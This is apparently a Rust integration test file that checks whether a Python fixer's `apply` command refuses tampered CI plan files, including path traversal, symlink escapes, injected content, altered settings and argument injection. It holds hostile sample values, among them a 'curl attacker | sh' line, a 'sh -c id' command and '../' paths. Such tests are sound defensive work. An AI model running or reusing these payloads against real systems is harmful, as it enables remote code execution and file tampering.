//! A plan is untrusted input (a CI artifact uploaded by a job on a fork's pull request,
//! downloaded by a job that can write): `apply` writes only inside one root, and only what
//! unfreeze itself makes from the file's current bytes with the plan's settings. Every attack
//! here is refused by name, with the target's bytes unchanged; honest plans still apply, in the
//! clone they were made in or in another one.

mod common;

use std::fs;
use std::path::Path;

use common::{Output, project, unfreeze};
use serde_json::Value;
use sha2::{Digest, Sha256};

const SLEEPY: &str = "import time\n\nasync def f():\n    time.sleep(1)\n";
const SLEEPY_FIXED: &str = "import asyncio\n\nasync def f():\n    await asyncio.sleep(1)\n";
const OTHER: &str = "import subprocess\n\nasync def h():\n    subprocess.run(['ls'])\n";
/// One safe fix (the first sleep) and one unsafe fix (a negative delay).
const SAFE_AND_UNSAFE: &str =
    "import time\n\nasync def f():\n    time.sleep(1)\n\nasync def g():\n    time.sleep(-1)\n";
const ATTACK: &str = "import os\nos.system('curl attacker | sh')\n";

fn sha256(bytes: &[u8]) -> String {
    Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// `fix --plan plan.json ARGS` in `dir`, and the plan it wrote.
fn make_plan(dir: &Path, args: &[&str]) -> Value {
    let mut all = vec!["fix", "--plan", "plan.json"];
    all.extend(args);
    let out = unfreeze(dir, &all).output();
    assert_eq!(out.code, Some(1), "fixes proposed: {}", out.show());
    serde_json::from_str(&fs::read_to_string(dir.join("plan.json")).unwrap()).unwrap()
}

fn write_plan(path: &Path, plan: &Value) {
    fs::write(path, serde_json::to_string_pretty(plan).unwrap()).unwrap();
}

/// Replace the first file's content, with a matching `fixed.sha256` (anyone can compute it).
fn set_content(plan: &mut Value, content: &str) {
    let fixed = &mut plan["files"][0]["fixed"];
    fixed["content"] = Value::from(content);
    fixed["sha256"] = Value::from(sha256(content.as_bytes()));
}

fn apply(dir: &Path, args: &[&str]) -> Output {
    let mut all = vec!["apply"];
    all.extend(args);
    unfreeze(dir, &all).output()
}

fn assert_refused(out: &Output, line: &str) {
    assert_eq!(out.code, Some(2), "{}", out.show());
    assert!(
        out.stderr.contains(line),
        "expected `{line}`: {}",
        out.show()
    );
    assert!(
        !out.stdout.contains("applied:"),
        "nothing applied: {}",
        out.show()
    );
}

fn read(path: impl AsRef<Path>) -> String {
    fs::read_to_string(path).unwrap()
}

/// The attack as written: the plan made honestly in one directory, its path pointed
/// at `../outside/victim.py` and its content replaced (hash updated), applied from another.
#[test]
fn a_path_climbing_out_with_dot_dot_is_refused() {
    let workspace = project(&[
        ("made/victim.py", SLEEPY.as_bytes()),
        ("elsewhere/keep", b""),
        ("outside/victim.py", SLEEPY.as_bytes()),
    ]);
    let ws = workspace.path();
    let mut plan = make_plan(&ws.join("made"), &["victim.py"]);
    plan["files"][0]["path"] = Value::from("../outside/victim.py");
    set_content(&mut plan, "print('attacker code')\n");
    write_plan(&ws.join("evil.json"), &plan);
    let out = apply(&ws.join("elsewhere"), &["../evil.json"]);
    assert_refused(
        &out,
        "refused: ../outside/victim.py: `..` climbs out of the root",
    );
    assert_eq!(read(ws.join("outside/victim.py")), SLEEPY);

    // Honest content, escaping path: still refused for the path alone.
    let mut plan = make_plan(&ws.join("made"), &["victim.py"]);
    plan["files"][0]["path"] = Value::from("../outside/victim.py");
    write_plan(&ws.join("evil.json"), &plan);
    let out = apply(&ws.join("made"), &["../evil.json"]);
    assert_refused(
        &out,
        "refused: ../outside/victim.py: `..` climbs out of the root",
    );
    assert_eq!(read(ws.join("outside/victim.py")), SLEEPY);
    assert_eq!(read(ws.join("made/victim.py")), SLEEPY);
}

#[test]
fn an_absolute_path_is_refused() {
    let dir = project(&[("a.py", SLEEPY.as_bytes())]);
    let outside = project(&[("victim.py", SLEEPY.as_bytes())]);
    let mut plan = make_plan(dir.path(), &["a.py"]);
    let victim = outside.path().join("victim.py");
    plan["files"][0]["path"] = Value::from(victim.to_str().unwrap());
    write_plan(&dir.path().join("evil.json"), &plan);
    let out = apply(dir.path(), &["evil.json"]);
    assert_refused(
        &out,
        &format!("refused: {}: is an absolute path", victim.display()),
    );
    assert_eq!(read(&victim), SLEEPY);
    assert_eq!(read(dir.path().join("a.py")), SLEEPY);
}

#[cfg(unix)]
#[test]
fn a_symlinked_file_leading_out_is_refused() {
    let dir = project(&[("a.py", SLEEPY.as_bytes())]);
    let outside = project(&[("victim.py", SLEEPY.as_bytes())]);
    std::os::unix::fs::symlink(outside.path().join("victim.py"), dir.path().join("link.py"))
        .unwrap();
    let mut plan = make_plan(dir.path(), &["a.py"]);
    plan["files"][0]["path"] = Value::from("link.py");
    write_plan(&dir.path().join("evil.json"), &plan);
    let out = apply(dir.path(), &["evil.json"]);
    assert_refused(
        &out,
        "refused: link.py: `link.py` is a symbolic link leading out of the root",
    );
    assert_eq!(read(outside.path().join("victim.py")), SLEEPY);
    assert!(
        fs::symlink_metadata(dir.path().join("link.py"))
            .unwrap()
            .file_type()
            .is_symlink(),
        "the link is left as it was"
    );
}

#[cfg(unix)]
#[test]
fn a_symlinked_directory_leading_out_is_refused() {
    let dir = project(&[("pkg/a.py", SLEEPY.as_bytes())]);
    let outside = project(&[("a.py", SLEEPY.as_bytes())]);
    let mut plan = make_plan(dir.path(), &["pkg/a.py"]);
    write_plan(&dir.path().join("evil.json"), &plan);
    // The plan is honest; the directory it names is swapped for a link before `apply`.
    fs::rename(dir.path().join("pkg"), dir.path().join("real")).unwrap();
    std::os::unix::fs::symlink(outside.path(), dir.path().join("pkg")).unwrap();
    let out = apply(dir.path(), &["evil.json"]);
    assert_refused(
        &out,
        "refused: pkg/a.py: `pkg` is a symbolic link leading out of the root",
    );
    assert_eq!(read(outside.path().join("a.py")), SLEEPY);

    // A path through a link inside the project leading out of it, spelled with `..`.
    plan["files"][0]["path"] = Value::from("real/../pkg/a.py");
    write_plan(&dir.path().join("evil.json"), &plan);
    let out = apply(dir.path(), &["evil.json"]);
    assert_refused(&out, "`pkg` is a symbolic link leading out of the root");
    assert_eq!(read(outside.path().join("a.py")), SLEEPY);
}

#[test]
fn content_unfreeze_would_not_write_is_refused_even_with_a_matching_sha256() {
    let dir = project(&[("a.py", SLEEPY.as_bytes())]);
    let mut plan = make_plan(dir.path(), &["a.py"]);
    set_content(&mut plan, &format!("{SLEEPY_FIXED}{ATTACK}"));
    write_plan(&dir.path().join("evil.json"), &plan);
    for args in [&["evil.json"][..], &["--check", "evil.json"]] {
        let out = apply(dir.path(), args);
        assert_refused(
            &out,
            "refused: a.py: the plan's fixed content is not what unfreeze",
        );
        assert!(
            out.stderr
                .contains("makes from the file's current bytes with the plan's settings"),
            "{}",
            out.show()
        );
        assert_eq!(read(dir.path().join("a.py")), SLEEPY);
    }
}

#[test]
fn a_diff_that_hides_the_change_is_refused() {
    let dir = project(&[("a.py", SLEEPY.as_bytes())]);
    let mut plan = make_plan(dir.path(), &["a.py"]);
    plan["files"][0]["fixed"]["diff"] = Value::from("--- a/a.py\n+++ b/a.py\n");
    write_plan(&dir.path().join("evil.json"), &plan);
    let out = apply(dir.path(), &["evil.json"]);
    assert_refused(&out, "refused: a.py: the plan's diff is not what unfreeze");
    assert_eq!(read(dir.path().join("a.py")), SLEEPY);
}

#[test]
fn tampered_settings_are_refused() {
    let dir = project(&[
        ("a.py", SAFE_AND_UNSAFE.as_bytes()),
        (
            "pyproject.toml",
            b"[tool.unfreeze]\nignore = [\"ASYNC221\"]\n",
        ),
    ]);
    let honest = make_plan(dir.path(), &["a.py"]);
    assert_eq!(
        honest["settings"]["configuration"]["path"],
        "pyproject.toml"
    );

    // `unsafe_fixes` turned on for content made without it: the fixes made again differ.
    let mut plan = honest.clone();
    plan["unsafe_fixes"] = Value::from(true);
    write_plan(&dir.path().join("evil.json"), &plan);
    let out = apply(dir.path(), &["evil.json"]);
    assert_refused(
        &out,
        "refused: a.py: the plan's fixed content is not what unfreeze",
    );
    assert_eq!(read(dir.path().join("a.py")), SAFE_AND_UNSAFE);

    // A selection under which unfreeze has nothing to fix in the file.
    let mut plan = honest.clone();
    plan["settings"]["select"] = serde_json::json!(["ASYNC221"]);
    write_plan(&dir.path().join("evil.json"), &plan);
    let out = apply(dir.path(), &["evil.json"]);
    assert_refused(
        &out,
        "refused: a.py: the plan's entry for this file is not what unfreeze",
    );
    assert_eq!(read(dir.path().join("a.py")), SAFE_AND_UNSAFE);

    // The recorded configuration: the message names the file and both hashes.
    let mut plan = honest.clone();
    let recorded = sha256(b"[tool.unfreeze]\n");
    plan["settings"]["configuration"]["sha256"] = Value::from(recorded.clone());
    write_plan(&dir.path().join("evil.json"), &plan);
    let out = apply(dir.path(), &["evil.json"]);
    assert_refused(
        &out,
        &format!(
            "error: the configuration file pyproject.toml is not the one the plan was made with \
             (its sha256 is {} here, {recorded} in the plan)",
            sha256(b"[tool.unfreeze]\nignore = [\"ASYNC221\"]\n")
        ),
    );
    assert!(out.stderr.contains("Nothing written."), "{}", out.show());
    assert_eq!(read(dir.path().join("a.py")), SAFE_AND_UNSAFE);

    // The settings name a path outside the root for the run to read.
    let mut plan = honest.clone();
    plan["settings"]["paths"] = serde_json::json!(["../"]);
    write_plan(&dir.path().join("evil.json"), &plan);
    let out = apply(dir.path(), &["evil.json"]);
    assert_refused(
        &out,
        "error: the plan's settings name `../`, which `..` climbs out of the root",
    );

    // The honest plan applies.
    write_plan(&dir.path().join("plan.json"), &honest);
    let out = apply(dir.path(), &["plan.json"]);
    assert_eq!(out.code, Some(0), "{}", out.show());
    assert!(out.stdout.contains("applied: a.py"), "{}", out.show());
    assert!(read(dir.path().join("a.py")).contains("await asyncio.sleep(1)"));
}

#[test]
fn a_configuration_changed_since_the_plan_is_named() {
    let dir = project(&[
        ("a.py", SLEEPY.as_bytes()),
        ("unfreeze.toml", b"select = [\"ASYNC\"]\n"),
    ]);
    make_plan(dir.path(), &["a.py"]);
    fs::write(dir.path().join("unfreeze.toml"), "select = [\"ASYNC2\"]\n").unwrap();
    let out = apply(dir.path(), &["plan.json"]);
    assert_refused(
        &out,
        "error: the configuration file unfreeze.toml is not the one the plan was made with",
    );
    fs::remove_file(dir.path().join("unfreeze.toml")).unwrap();
    let out = apply(dir.path(), &["plan.json"]);
    assert_refused(
        &out,
        "error: the plan was made with the configuration file unfreeze.toml, and there is none \
         here",
    );
    assert_eq!(read(dir.path().join("a.py")), SLEEPY);
}

#[test]
fn a_plan_from_another_version_is_refused() {
    let dir = project(&[("a.py", SLEEPY.as_bytes())]);
    let mut plan = make_plan(dir.path(), &["a.py"]);
    plan["unfreeze_version"] = Value::from("0.0.1");
    write_plan(&dir.path().join("old.json"), &plan);
    let out = apply(dir.path(), &["old.json"]);
    assert_refused(
        &out,
        &format!(
            "error: the plan was made by unfreeze 0.0.1, this is unfreeze {}",
            env!("CARGO_PKG_VERSION")
        ),
    );
    assert_eq!(read(dir.path().join("a.py")), SLEEPY);

    // A newer unfreeze's plan, with fields this one does not know: still named by version.
    plan["unfreeze_version"] = Value::from("9.0.0");
    plan["signature"] = Value::from("...");
    write_plan(&dir.path().join("newer.json"), &plan);
    let out = apply(dir.path(), &["newer.json"]);
    assert_refused(&out, "error: the plan was made by unfreeze 9.0.0");
    assert_eq!(read(dir.path().join("a.py")), SLEEPY);
}

/// One change to a plan's JSON.
type Edit = Box<dyn Fn(&mut Value)>;

#[test]
fn an_invalid_plan_is_refused_before_anything_is_read() {
    let dir = project(&[("a.py", SLEEPY.as_bytes())]);
    let honest = make_plan(dir.path(), &["a.py"]);
    let cases: Vec<(&str, Edit)> = vec![
        (
            "invalid plan: unknown field `run`",
            Box::new(|p| p["run"] = Value::from("sh -c id")),
        ),
        (
            "invalid plan: unknown field `mode`",
            Box::new(|p| p["files"][0]["fixed"]["mode"] = Value::from(0o777)),
        ),
        (
            "invalid plan: invalid type: string \"yes\", expected a boolean",
            Box::new(|p| p["unsafe_fixes"] = Value::from("yes")),
        ),
        (
            "(plans record their settings since this version: make the plan again)",
            Box::new(|p| {
                p.as_object_mut().unwrap().remove("settings");
            }),
        ),
        (
            "invalid plan: files[0].path is 5000 bytes long (at most 4096)",
            Box::new(|p| p["files"][0]["path"] = Value::from("a/".repeat(2500))),
        ),
        (
            "invalid plan: files[0].sha256 is not a SHA-256",
            Box::new(|p| p["files"][0]["sha256"] = Value::from("0")),
        ),
        (
            "invalid plan: files[0].fixed.encoding `gzip` is neither",
            Box::new(|p| p["files"][0]["fixed"]["encoding"] = Value::from("gzip")),
        ),
        (
            "invalid plan: settings.since `--output=x` is not a revision",
            Box::new(|p| p["settings"]["since"] = Value::from("--output=x")),
        ),
    ];
    for (message, edit) in cases {
        let mut plan = honest.clone();
        edit(&mut plan);
        write_plan(&dir.path().join("bad.json"), &plan);
        let out = apply(dir.path(), &["bad.json"]);
        assert_refused(&out, message);
        assert_eq!(read(dir.path().join("a.py")), SLEEPY, "{message}");
    }
    // A huge plan is refused by its size, before it is read.
    let huge = fs::File::create(dir.path().join("huge.json")).unwrap();
    huge.set_len(256 * 1024 * 1024 + 1).unwrap();
    let out = apply(dir.path(), &["huge.json"]);
    assert_refused(
        &out,
        "error: the plan huge.json is larger than 256 MiB, the most `apply` reads",
    );
}

#[test]
fn all_or_nothing_writes_nothing_when_one_entry_is_refused() {
    let dir = project(&[("a.py", SLEEPY.as_bytes()), ("b.py", OTHER.as_bytes())]);
    let outside = project(&[("b.py", OTHER.as_bytes())]);
    let mut plan = make_plan(dir.path(), &["."]);
    let files = plan["files"].as_array_mut().unwrap();
    let b = files.iter_mut().find(|f| f["path"] == "b.py").unwrap();
    b["path"] = Value::from(outside.path().join("b.py").to_str().unwrap());
    write_plan(&dir.path().join("evil.json"), &plan);
    let out = apply(dir.path(), &["--all-or-nothing", "evil.json"]);
    assert_refused(&out, "is an absolute path");
    assert!(
        out.stderr.contains("refused: a.py: not written"),
        "{}",
        out.show()
    );
    assert_eq!(read(dir.path().join("a.py")), SLEEPY);
    assert_eq!(read(outside.path().join("b.py")), OTHER);

    // Without it the honest entry is applied, the other refused, and the exit is 2.
    let out = apply(dir.path(), &["evil.json"]);
    assert_eq!(out.code, Some(2), "{}", out.show());
    assert!(out.stdout.contains("applied: a.py"), "{}", out.show());
    assert_eq!(read(dir.path().join("a.py")), SLEEPY_FIXED);
    assert_eq!(read(outside.path().join("b.py")), OTHER);
}

/// A package whose fix depends on another module: the plan's content can only be made again
/// with the whole project read the same way.
const CONFIG: &[u8] = b"[tool.unfreeze]\nextend-select = [\"ASYNC\"]\n";
const HELPERS: &str = "import time\n\ndef pause():\n    time.sleep(1)\n";
const APP: &str = "from pkg.helpers import pause\nimport time\n\nasync def main():\n    time.sleep(2)\n    pause()\n";

#[test]
fn a_plan_made_in_one_clone_applies_in_another() {
    let files: &[(&str, &[u8])] = &[
        ("pyproject.toml", CONFIG),
        ("pkg/__init__.py", b""),
        ("pkg/helpers.py", HELPERS.as_bytes()),
        ("pkg/app.py", APP.as_bytes()),
    ];
    let ci = project(files);
    let clone = project(files);
    let written = project(files);
    make_plan(ci.path(), &["."]);
    // The artifact travels to another job: another directory, same files.
    let artifact = clone.path().join("..").join(format!(
        "{}-plan.json",
        clone.path().file_name().unwrap().to_string_lossy()
    ));
    fs::copy(ci.path().join("plan.json"), &artifact).unwrap();
    let out = apply(clone.path(), &[artifact.to_str().unwrap()]);
    fs::remove_file(&artifact).unwrap();
    assert_eq!(out.code, Some(0), "{}", out.show());
    assert!(out.stdout.contains("applied: pkg/app.py"), "{}", out.show());
    let out = unfreeze(written.path(), &["fix", "--write", "."]).output();
    assert_eq!(out.code, Some(0), "{}", out.show());
    for path in ["pkg/app.py", "pkg/helpers.py"] {
        assert_eq!(
            read(clone.path().join(path)),
            read(written.path().join(path)),
            "{path}"
        );
    }
    assert_ne!(
        read(clone.path().join("pkg/app.py")),
        APP,
        "something fixed"
    );
    // The plan made in `ci` did not touch `ci`.
    assert_eq!(read(ci.path().join("pkg/app.py")), APP);
}

#[test]
fn a_plan_made_in_a_subdirectory_applies_up_to_the_configuration_directory() {
    let dir = project(&[
        ("pyproject.toml", CONFIG),
        ("top.py", SLEEPY.as_bytes()),
        ("sub/a.py", SLEEPY.as_bytes()),
    ]);
    let sub = dir.path().join("sub");
    make_plan(&sub, &["..", "--exclude", "plan.json"]);
    let out = apply(&sub, &["plan.json"]);
    assert_eq!(out.code, Some(0), "{}", out.show());
    assert_eq!(read(dir.path().join("top.py")), SLEEPY_FIXED);
    assert_eq!(read(sub.join("a.py")), SLEEPY_FIXED);

    // `--root sub` narrows the root: the file above it is refused.
    fs::write(dir.path().join("top.py"), SLEEPY).unwrap();
    fs::write(sub.join("a.py"), SLEEPY).unwrap();
    let out = apply(&sub, &["--root", ".", "plan.json"]);
    assert_eq!(out.code, Some(2), "{}", out.show());
    assert!(
        out.stderr.contains("error: the plan's settings name `..`"),
        "{}",
        out.show()
    );
    assert_eq!(read(dir.path().join("top.py")), SLEEPY);
}

#[test]
fn a_file_named_twice_or_a_directory_is_refused_by_name() {
    let dir = project(&[("a.py", SLEEPY.as_bytes()), ("pkg/b.py", OTHER.as_bytes())]);
    let mut plan = make_plan(dir.path(), &["a.py"]);
    let mut twice = plan["files"][0].clone();
    twice["path"] = Value::from("./pkg/../a.py");
    let mut directory = plan["files"][0].clone();
    directory["path"] = Value::from("pkg");
    let files = plan["files"].as_array_mut().unwrap();
    files.push(twice);
    files.push(directory);
    write_plan(&dir.path().join("evil.json"), &plan);
    let out = apply(dir.path(), &["--all-or-nothing", "evil.json"]);
    assert_refused(
        &out,
        "refused: ./pkg/../a.py: names a file another entry of the plan names too",
    );
    assert!(
        out.stderr.contains("refused: pkg: is not a regular file"),
        "{}",
        out.show()
    );
    assert!(
        out.stderr.contains("refused: a.py: not written"),
        "{}",
        out.show()
    );
    assert_eq!(read(dir.path().join("a.py")), SLEEPY);
    assert_eq!(read(dir.path().join("pkg/b.py")), OTHER);
}
